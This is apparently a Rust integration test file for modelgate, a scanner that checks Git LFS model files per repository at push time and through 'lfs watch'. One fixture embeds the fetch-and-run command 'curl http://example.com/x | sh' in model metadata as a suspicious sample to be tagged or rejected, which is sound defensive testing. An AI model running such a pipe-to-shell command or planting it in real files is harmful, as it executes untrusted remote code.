//! One policy for a whole server whose LFS objects are kept per repository: a `template`
//! store naming the repository (`{repo}`, `{owner}`, `{name}`), resolved by the hook from the
//! repository it runs in, and listed by `modelgate lfs watch`.

mod git_support;
use git_support::*;
use std::path::{Path, PathBuf};
use std::process::Command;

/// A server root with bare repositories `<root>/repos/<owner>/<name>.git` (the pre-receive
/// hook installed), a store per repository under `<root>/lfs/<owner>/<name>/`, and one
/// policy for all of them.
struct Site {
    dir: tempfile::TempDir,
    policy: PathBuf,
}

impl Site {
    fn new(extra: &str) -> Site {
        let dir = tempfile::tempdir().unwrap();
        let lfs = dir.path().join("lfs");
        std::fs::create_dir_all(&lfs).unwrap();
        let policy = dir.path().join("policy.toml");
        std::fs::write(
            &policy,
            format!(
                "[lfs]\nlayout = \"template\"\ntemplate = \"{}/{{repo}}/{{oid0:2}}/{{oid2:4}}/{{oid}}\"\n\n[gate]\ncache_dir = \"\"\n{extra}",
                lfs.display()
            ),
        )
        .unwrap();
        Site { dir, policy }
    }

    fn repo(&self, owner: &str, name: &str) -> PathBuf {
        let p = self.dir.path().join("repos").join(owner).join(format!("{name}.git"));
        if !p.exists() {
            std::fs::create_dir_all(&p).unwrap();
            assert!(Command::new("git").args(["init", "-q", "--bare"]).arg(&p).status().unwrap().success());
            let hook = p.join("hooks/pre-receive");
            std::fs::write(
                &hook,
                format!("#!/bin/sh\nexec '{BIN}' hook pre-receive --policy '{}'\n", self.policy.display()),
            )
            .unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        p
    }

    /// Put an object in a repository's store; returns its oid.
    fn put(&self, repo: &str, bytes: &[u8]) -> String {
        let oid = sha256_hex(bytes);
        let p = self.object(repo, &oid);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
        oid
    }

    fn object(&self, repo: &str, oid: &str) -> PathBuf {
        self.dir.path().join("lfs").join(repo).join(&oid[0..2]).join(&oid[2..4]).join(oid)
    }
}

fn push_to(e: &Env, repo: &Path) -> (bool, String) {
    e.w(&["remote", "set-url", "origin", &format!("file://{}", repo.display())]);
    e.push(&["main"])
}

#[test]
fn the_hook_looks_in_the_store_of_its_own_repository() {
    let site = Site::new("");
    let models = site.repo("acme", "models");
    let other = site.repo("acme", "other");
    let w = safetensors(None);
    site.put("acme/models", &w);
    let e = Env::new();
    e.write("w.safetensors", &pointer(&w));
    e.commit("pointer");
    let out = assert_accepted(push_to(&e, &models));
    assert!(out.contains("1 new file(s) checked"), "{out}");
    // The same pointer in a repository whose store lacks the object.
    let out = assert_rejected(push_to(&e, &other));
    assert!(out.contains("lfs-object-missing") && out.contains("git lfs push --all"), "{out}");
    // A dangerous object behind a pointer is found in its repository's store.
    let bad = site.put("acme/other", BAD);
    e.write("evil.bin", &pointer(BAD));
    e.commit("evil");
    let out = assert_rejected(push_to(&e, &other));
    assert!(out.contains(BAD_CODE) && out.contains(&bad[..12]), "{out}");
}

#[test]
fn lfs_watch_lists_a_template_store_repository_by_repository() {
    let site = Site::new(
        "\n[[rule]]\nrepos = [\"acme/strict\", \"group/**\"]\nactions = { suspicious = \"reject\" }\nreason = \"strict repositories\"\n",
    );
    let sus = safetensors(Some(("cmd", "curl http://example.com/x | sh")));
    let oid = site.put("acme/models", &sus);
    site.put("acme/strict", &sus);
    // GitLab-style nested groups: {repo} spans several directories.
    site.put("group/sub/project", &sus);
    let good = site.put("acme/strict", &safetensors(None));
    // Not objects: wrong places and names.
    std::fs::write(site.dir.path().join("lfs/acme/models/stray"), b"x").unwrap();
    std::fs::create_dir_all(site.dir.path().join("lfs/acme/models/tmp")).unwrap();
    std::fs::write(site.dir.path().join("lfs/acme/models/tmp").join(&oid), &sus).unwrap();
    let q = site.dir.path().join("quarantine");
    let o = Command::new(BIN)
        .args(["lfs", "watch", "--once", "--settle", "0s", "--format", "json", "--policy"])
        .arg(&site.policy)
        .arg("--git-dir")
        .arg(site.dir.path())
        .arg("--quarantine")
        .arg(&q)
        .env_remove("MODELGATE_POLICY")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", show(&o.stderr));
    let lines: Vec<serde_json::Value> = show(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 4, "{lines:#?}");
    let find = |repo: &str, oid: &str| {
        lines
            .iter()
            .find(|v| v["repo"] == repo && v["oid"] == oid)
            .unwrap_or_else(|| panic!("{repo} {oid}: {lines:#?}"))
    };
    assert_eq!(find("acme/models", &oid)["decision"], "tag");
    assert_eq!(find("acme/strict", &oid)["decision"], "reject");
    assert_eq!(find("group/sub/project", &oid)["decision"], "reject");
    assert_eq!(find("acme/strict", &good)["decision"], "allow");
    // Rejected objects leave their own repository's store only.
    assert!(site.object("acme/models", &oid).exists());
    assert!(!site.object("acme/strict", &oid).exists());
    assert!(q.join(format!("acme--strict--{oid}")).is_file());
    assert!(q.join(format!("group--sub--project--{oid}")).is_file());
}
